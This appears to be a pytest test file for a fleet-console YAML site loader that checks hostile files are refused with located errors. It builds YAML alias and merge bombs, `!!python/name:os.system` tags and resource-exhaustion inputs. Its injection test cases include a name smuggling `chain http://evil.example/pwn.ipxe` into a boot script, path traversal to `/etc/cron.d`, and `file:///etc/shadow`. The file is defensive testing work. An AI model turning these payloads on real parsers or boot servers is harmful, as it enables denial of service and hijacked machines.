"""Hostile site files: each is refused with a located error, never a traceback, a hang or gigabytes.

Every file is generated here (tmp_path); :data:`HOSTILE` lists them with the error
each must give.  The loader is run in-process for the messages, and through the
CLI in a child limited to 1 GB of address space for the exit code: the files
that used to take 2-23 GB (alias bombs, 2 million nodes from 2 KB of ranges) are
killed there if they ever expand again.
"""

from __future__ import annotations

import os
import resource
import subprocess
import sys
from pathlib import Path

import pytest

from inventory.errors import InventoryError
from inventory.loader import (
    MAX_ALIAS_NODES,
    MAX_DEPTH,
    MAX_FILE_BYTES,
    MAX_NODES,
    MAX_YAML_NODES,
    load_site,
    load_site_text,
)

HEAD = (
    "site: t\n"
    "defaults:\n  bmc: {protocol: ipmi, username: admin, password: env:PW}\n"
    "racks:\n  - name: r1\n    nodes:\n"
)  # node entries go at 6 spaces; the first is on line 7


def node(text: str) -> str:
    return "      " + text + "\n"


def billion_laughs() -> bytes:
    """Ten levels of ten aliases each (10**10 leaves), under a key the site accepts (groups)."""
    lines = ["site: bomb", "groups:", "  g0: &g0 [" + ", ".join(["lol"] * 10) + "]"]
    for i in range(1, 10):
        lines.append(f"  g{i}: &g{i} [" + ", ".join([f"*g{i - 1}"] * 10) + "]")
    lines += ["racks: []", ""]
    return "\n".join(lines).encode()


def merge_bomb() -> bytes:
    """The same through merge keys: each level merges ten copies of the one before."""
    lines = ["site: bomb", "groups:", "  m0: &m0 {" + ", ".join(f"k{i}: x" for i in range(10)) + "}"]
    for i in range(1, 10):
        lines.append(f"  m{i}: &m{i} {{<<: [" + ", ".join([f"*m{i - 1}"] * 10) + "]}")
    lines += ["racks: []", ""]
    return "\n".join(lines).encode()


def deep_flow() -> bytes:
    return b"site: deep\nracks: " + b"[" * 100_000 + b"]" * 100_000 + b"\n"


def deep_block() -> bytes:
    lines = ["site: deep", "racks:"]
    lines += ["  " * (i + 1) + "- " for i in range(200)]
    lines[-1] += "x"
    return ("\n".join(lines) + "\n").encode()


def cycle() -> bytes:
    return b"site: cyc\nracks: &a [*a]\n"


def merge_cycle() -> bytes:
    return b"site: cyc\ndefaults: &d {<<: *d}\nracks: []\n"


def many_values() -> bytes:
    """1.3 million one-letter values in 4 MB (50 s and 1.3 GB before they were counted)."""
    return b"site: flat\nracks: []\ngroups:\n  g: [" + b"a, " * 1_300_000 + b"a]\n"


def ranges_2m() -> bytes:
    """20 legal ranges of 99,999 nodes: 2 million nodes from ~2 KB."""
    entries = "".join(node(f"- {{name: 'r{i}-n[1-99999]', bmc: {{address: 'h{i}-n[1-99999]'}}}}") for i in range(20))
    return (HEAD + entries).encode()


def groups_2m() -> bytes:
    items = "".join(f"  g{i}: 'zz[1-99999]'\n" for i in range(20))
    return (HEAD + node("- {name: a, bmc: {address: 127.0.0.1}}") + "groups:\n" + items).encode()


def lab_2m() -> bytes:
    items = "".join(f"    'zz{i}-[1-99999]': flatcar@1\n" for i in range(20))
    return (HEAD + node("- {name: a, bmc: {address: 127.0.0.1}}") + "lab:\n  running:\n" + items).encode()


def unknown_key_with_python_tag() -> bytes:
    """An unknown key is refused before its value is converted (this one cannot be)."""
    return (HEAD + node("- {name: a, bmc: {address: 127.0.0.1}, colour: !!python/name:os.system ''}")).encode()


def python_tag_in_known_key() -> bytes:
    return (HEAD + node("- {name: a, bmc: {address: 127.0.0.1}, role: !!python/name:os.system ''}")).encode()


def huge_int() -> bytes:
    return (HEAD + node("- {name: a, bmc: {address: 127.0.0.1}, u: " + "9" * 5000 + "}")).encode()


def not_utf8() -> bytes:
    return (HEAD + node("- {name: a, bmc: {address: 127.0.0.1}}")).encode() + b"      - {name: b\xff\xfe, bmc: {}}\n"


def control_char() -> bytes:
    return (HEAD + node("- {name: a, bmc: {address: 127.0.0.1}}") + node("- {name: b\x1b[2J, bmc: {}}")).encode()


def nul_byte() -> bytes:
    return HEAD.encode() + b"      - {name: a\x00}\n"


def bad_host_range() -> bytes:
    """The host pattern is wrong: the error is at the host line (it was at the u line)."""
    return (HEAD + "      - name: 'n[1-3]'\n        u: '[1-3]'\n        host: '10.3.1.[3-1]'\n"
            "        bmc: {address: '127.0.0.[1-3]'}\n").encode()


def host_count_mismatch() -> bytes:
    return (HEAD + "      - name: 'n[1-3]'\n        u: '[1-3]'\n        host: '10.3.1.[1-2]'\n"
            "        bmc: {address: '127.0.0.[1-3]'}\n").encode()


def hex_4000() -> bytes:
    """A 4,000-digit hex integer: past Python's int-to-text limit when read back as text."""
    return (HEAD + node("- {name: n1, bmc: {address: 127.0.0.1}, u: 0x" + "f" * 4000 + "}")).encode()


def sexagesimal() -> bytes:
    """YAML 1.1 reads ``1:59:59`` as a base-60 integer, in time growing with the square of its length."""
    return (HEAD + node("- {name: n1, bmc: {address: 127.0.0.1}, u: " + "1:59:" * 120_000 + "1}")).encode()


def huge_range() -> bytes:
    """A range wider than an index can be (len() of it raised OverflowError)."""
    return (HEAD + node("- {name: 'n[1-99999999999999999999]', bmc: {address: 127.0.0.1}, u: 1}")).encode()


#: name -> (file bytes, expected "line:col: field: message" start after the file name)
HOSTILE = {
    "billion_laughs": (billion_laughs, f"7:12: aliases repeat more than {MAX_ALIAS_NODES:,} YAML nodes"),
    "merge_bomb": (merge_bomb, f"6:57: aliases repeat more than {MAX_ALIAS_NODES:,} YAML nodes"),
    "deep_flow": (deep_flow, f"2:{7 + MAX_DEPTH}: YAML nested more than {MAX_DEPTH} levels deep"),
    "deep_block": (deep_block, f"{2 + MAX_DEPTH}:{2 * MAX_DEPTH + 1}: YAML nested more than {MAX_DEPTH} levels deep"),
    "cycle": (cycle, "2:12: alias *a refers to a node that contains it"),
    "merge_cycle": (merge_cycle, "2:19: alias *d refers to a node that contains it"),
    "many_values": (many_values, f"4:{3 * MAX_YAML_NODES - 20}: more than {MAX_YAML_NODES:,} YAML values"),
    "ranges_2m": (ranges_2m, f"7:16: racks[0].nodes[0].name: the site expands to 1,999,980 nodes, more than the "
                             f"limit of {MAX_NODES:,} (a guard against a runaway range; set FLEET_CONSOLE_MAX_NODES"),
    "groups_2m": (groups_2m, f"9:7: groups.g0: the groups name more than {MAX_NODES:,} nodes in all"),
    "lab_2m": (lab_2m, f"10:5: lab.running.zz0-[1-99999]: the lab's selections name more than {MAX_NODES:,} nodes"),
    "unknown_key_with_python_tag": (unknown_key_with_python_tag,
                                    "7:46: racks[0].nodes[0].colour: unknown field 'colour' in a node"),
    "python_tag_in_known_key": (python_tag_in_known_key,
                                "7:52: racks[0].nodes[0].role: could not determine a constructor"),
    "huge_int": (huge_int, "7:49: racks[0].nodes[0].u: Unable to parse input string as an integer"),
    "hex_4000": (hex_4000, "7:50: racks[0].nodes[0].u: Input should be a valid integer"),
    "sexagesimal": (sexagesimal, "7:50: racks[0].nodes[0].u: Input should be a valid integer"),
    "huge_range": (huge_range, "7:16: racks[0].nodes[0].name: name: 'n[1-99999999999999999999]' expands to "
                               "99,999,999,999,999,999,999 names"),
    "not_utf8": (not_utf8, "8:17: not UTF-8 text: byte 0xff"),
    "control_char": (control_char, "8:17: character '\\x1b' is not allowed in YAML"),
    "nul_byte": (nul_byte, "7:17: character '\\x00' is not allowed in YAML"),
    "bad_host_range": (bad_host_range, "9:15: racks[0].nodes[0].host: host: reversed range"),
    "host_count_mismatch": (host_count_mismatch,
                            "9:15: racks[0].nodes[0].host: name expands to 3 values but host expands to 2"),
}


def problems_of(data: bytes, tmp_path: Path) -> list[str]:
    path = tmp_path / "site.yaml"
    path.write_bytes(data)
    with pytest.raises(InventoryError) as info:
        load_site(path)
    return [str(p) for p in info.value.problems]


#: where the YAML library stops a hostile file before our own limit, with a located error
#: of its own: PyYAML 6.0.4's libyaml refuses flow nesting past 1,000 levels while
#: scanning ahead, before the parser hands our composer the 65th level
ALSO_OK = {"deep_flow": "2:1007: YAML syntax error: while increasing flow level exceeded maximum nesting depth"}


def _expected(case: str) -> tuple[str, ...]:
    return (HOSTILE[case][1],) + ((ALSO_OK[case],) if case in ALSO_OK else ())


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_file_gets_one_located_error(case, tmp_path):
    make, _ = HOSTILE[case]
    found = problems_of(make(), tmp_path)
    prefixes = tuple(f"{tmp_path / 'site.yaml'}:{e}" for e in _expected(case))
    assert any(p.startswith(prefixes) for p in found), found
    assert len(found) <= 2, found  # the cause, not a cascade


def _limited(limit_bytes: int):
    def apply() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit_bytes, limit_bytes))

    return apply


@pytest.mark.parametrize("case", ["billion_laughs", "merge_bomb", "deep_flow", "many_values", "ranges_2m", "groups_2m",
                                  "not_utf8", "cycle", "hex_4000", "sexagesimal",
                                  "huge_range"])
def test_hostile_file_through_the_cli_exits_2_within_1gb(case, tmp_path):
    """A child capped at 1 GB of address space: the old loader took 2-23 GB on these."""
    make, _ = HOSTILE[case]
    path = tmp_path / "site.yaml"
    path.write_bytes(make())
    env = dict(os.environ, XDG_STATE_HOME=str(tmp_path / "state"))
    env.pop("FLEET_CONSOLE_DEBUG", None)
    r = subprocess.run([sys.executable, "-m", "console.cli.main", "--site", str(path), "validate"], capture_output=True,
                       text=True, timeout=120, env=env, preexec_fn=_limited(1 << 30))
    assert r.returncode == 2, r.stderr
    assert "Traceback" not in r.stderr and "internal error" not in r.stderr
    assert r.stderr.startswith(tuple(f"{path}:{e}" for e in _expected(case))), r.stderr
    assert r.stderr.rstrip().endswith("problem in the site file")


def test_node_limit_is_configurable(monkeypatch):
    text = HEAD + node("- {name: 'n[1-20]', bmc: {address: '127.0.0.[1-20]'}}")
    assert len(load_site_text(text).nodes) == 20
    monkeypatch.setenv("FLEET_CONSOLE_MAX_NODES", "19")
    with pytest.raises(InventoryError, match="expands to 20 nodes, more than the limit of 19"):
        load_site_text(text)
    monkeypatch.setenv("FLEET_CONSOLE_MAX_NODES", "lots")
    with pytest.raises(InventoryError, match="FLEET_CONSOLE_MAX_NODES: must be a whole number"):
        load_site_text(text)


def test_aliases_within_the_limit_still_work():
    text = ("site: t\nx-bmc: &bmc {protocol: ipmi, username: admin, password: env:PW}\n"
            "racks:\n  - name: r1\n    nodes:\n"
            "      - {name: a, bmc: {<<: *bmc, address: 127.0.0.1}}\n")
    with pytest.raises(InventoryError, match="unknown field 'x-bmc' in the site"):
        load_site_text(text)
    text = ("site: t\ndefaults:\n  bmc: &bmc {protocol: ipmi, username: admin, password: env:PW}\n"
            "racks:\n  - name: r1\n    nodes:\n"
            "      - {name: a, bmc: {<<: *bmc, address: 127.0.0.1}}\n"
            "      - {name: b, bmc: {<<: *bmc, address: 127.0.0.2, protocol: redfish}}\n")
    site = load_site_text(text)
    assert site.node("b").bmc.protocol == "redfish" and site.node("a").bmc.username == "admin"


def test_special_files_are_refused_without_reading(tmp_path):
    fifo = tmp_path / "site.yaml"
    os.mkfifo(fifo)
    with pytest.raises(InventoryError, match="not a regular file"):
        load_site(fifo)  # would block for ever if opened for reading without O_NONBLOCK
    big = tmp_path / "big.yaml"
    with open(big, "wb") as f:
        f.truncate(MAX_FILE_BYTES + 1)
    with pytest.raises(InventoryError, match="more than the 16,777,216 a site file may be"):
        load_site(big)


def test_byte_order_mark_is_accepted(tmp_path):
    path = tmp_path / "site.yaml"
    path.write_bytes(b"\xef\xbb\xbf" + (HEAD + node("- {name: a, bmc: {address: 127.0.0.1}}")).encode())
    assert load_site(path).node("a").rack == "r1"


# --------------------------------------------------------------------------- names, URLs, command lines
IMAGES = ("images:\n  - name: img\n    version: '1'\n    kernel: http://boot.example/vmlinuz\n"
          "    initrd: http://boot.example/initrd\n    cmdline: console=ttyS0\n")
SITE = ("site: t\n"
        "defaults:\n  bmc: {protocol: ipmi, username: admin, password: env:PW}\n  image: img@1\n"
        + IMAGES +
        "switches:\n  - {name: sw, address: 127.0.0.1, snmp: {community: env:C}}\n"
        "racks:\n  - name: r1\n    nodes:\n      - {name: a, bmc: {address: 127.0.0.1}}\n")  # the node is line 16


@pytest.mark.parametrize(
    "old, new, expected",
    [
        # a name with a line break wrote `shell` and `chain http://evil...` into a served boot script
        ("{name: a,", '{name: "a\\nshell\\nchain http://evil.example/pwn.ipxe",',
         "16:16: racks[0].nodes[0].name: a name is letters, digits"),
        ("{name: a,", "{name: ../../etc/cron.d/x,", "16:16: racks[0].nodes[0].name: a name is letters, digits"),
        ("{name: a,", "{name: -rf,", "16:16: racks[0].nodes[0].name: a name is letters, digits"),
        ("{name: a,", "{name: .hidden,", "16:16: racks[0].nodes[0].name: a name is letters, digits"),
        ("{name: a,", "{name: " + "x" * 64 + ",", "16:16: racks[0].nodes[0].name: a name is letters, digits"),
        ("{name: a,", "{name: " + ".".join(["x" * 60] * 5) + ",", "16:16: racks[0].nodes[0].name: a name is"),
        ("  - name: r1\n", "  - name: r/1\n", "14:11: racks[0].name: rack name: a name is letters, digits"),
        ("site: t\n", "site: ../t\n", "1:7: site: site name: a name is letters"),
        ("{name: sw,", "{name: 'sw 1',", "12:12: switches[0].name: a name is letters, digits"),
        ("    cmdline: console=ttyS0\n", '    cmdline: "console=ttyS0\\nshell"\n',
         "10:14: images[0].cmdline: kernel command line holds a line break ('\\n')"),
        ("    cmdline: console=ttyS0\n", '    cmdline: "quiet\\rchain x"\n',
         "10:14: images[0].cmdline: kernel command line holds a line break ('\\r')"),
        ("    cmdline: console=ttyS0\n", '    cmdline: "quiet\\x1b[2J"\n',
         "10:14: images[0].cmdline: kernel command line holds a control or non-ASCII character ('\\x1b')"),
        ("http://boot.example/vmlinuz", '"http://boot.example/vmlinuz\\nshell"',
         "8:13: images[0].kernel: a URL has no spaces, control or non-ASCII characters"),
        ("http://boot.example/initrd", "'http://boot.example/initrd quiet'",
         "9:13: images[0].initrd: a URL has no spaces"),
        ("http://boot.example/initrd", "file:///etc/shadow",
         "9:13: images[0].initrd: URL scheme must be http or https or tftp"),
        ("http://boot.example/initrd", "http:///initrd", "9:13: images[0].initrd: URL has no host"),
        ("http://boot.example/initrd", "http://user:pw@boot.example/initrd", "9:13: images[0].initrd: user@ in a URL"),
        ("    cmdline: console=ttyS0\n", '    iso: "https://boot.example/a.iso\\r\\nshell"\n',
         "10:10: images[0].iso: a URL"),
        ("{address: 127.0.0.1}}", "{address: 'evil.example/x#'}}",
         "16:34: racks[0].nodes[0].bmc.address: not an IP address"),
        ("{address: 127.0.0.1}}", "{address: 127.0.0.1}, groups: ['../x']}",
         "16:55: racks[0].nodes[0].groups[0]: a name is"),
        ("{address: 127.0.0.1}}", "{address: 127.0.0.1}, role: \"gpu\\e]0;PWNED\\a\"}",
         "16:52: racks[0].nodes[0].role: control or non-printable character '\\x1b'"),
    ],
)
def test_names_urls_and_command_lines_are_checked_where_written(old, new, expected):
    assert old in SITE
    text = SITE.replace(old, new, 1)
    with pytest.raises(InventoryError) as info:
        load_site_text(text, "site.yaml")
    found = [str(p) for p in info.value.problems]
    assert any(p.startswith(f"site.yaml:{expected}") for p in found), found
    assert all("\n" not in p and "\x1b" not in p for p in found)  # shown escaped, one line each


def test_group_names_are_names():
    text = SITE + "groups:\n  '../g': [a]\n"
    with pytest.raises(InventoryError, match=r"site.yaml:18:3: groups.../g: group name: a name is"):
        load_site_text(text, "site.yaml")


def test_names_the_demo_and_tests_use_are_accepted():
    for name in ("dal1-r01-n01", "act-r02-db01", "dal1-r01-gpu01", "n1", "host_1.example.com", "_x", "437XR1138R2",
                 "a." * 126 + "b"):
        site = load_site_text(SITE.replace("{name: a,", f"{{name: '{name}',"), "site.yaml")
        assert site.nodes[0].name == name
    site = load_site_text(SITE.replace("http://boot.example/initrd", "tftp://10.0.0.1:69/initrd"), "site.yaml")
    assert site.images[0].initrd == "tftp://10.0.0.1:69/initrd"


@pytest.mark.parametrize("case", ["billion_laughs", "merge_bomb", "deep_flow", "cycle", "control_char", "huge_int"])
def test_the_pure_python_parser_has_the_same_limits(case, tmp_path, monkeypatch):
    """Where PyYAML is built without libyaml, its own parser runs under the same composer."""
    from inventory import yamldoc

    monkeypatch.setattr(yamldoc, "_BoundedLoader", yamldoc._PyBoundedLoader)
    make, expected = HOSTILE[case]
    found = problems_of(make(), tmp_path)
    assert any(p.startswith(f"{tmp_path / 'site.yaml'}:{expected}") for p in found), found
